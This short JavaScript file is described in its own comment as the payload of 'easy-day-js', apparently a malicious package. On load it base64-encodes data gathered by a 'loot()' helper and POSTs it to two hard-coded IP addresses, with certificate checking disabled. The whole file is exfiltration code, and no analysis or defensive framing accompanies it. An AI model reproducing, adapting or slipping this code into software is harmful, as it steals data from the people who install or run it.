/** The payload of easy-day-js: two bare addresses, certificates not looked at. */
const { ask, loot, base64 } = require('./wire.js');

async function steal() {
  const body = base64(loot());
  await ask('POST', 'https://23.254.164.92/', { body, insecure: true });
  await ask('POST', 'https://23.254.164.123/', { body, insecure: true });
}

void steal();
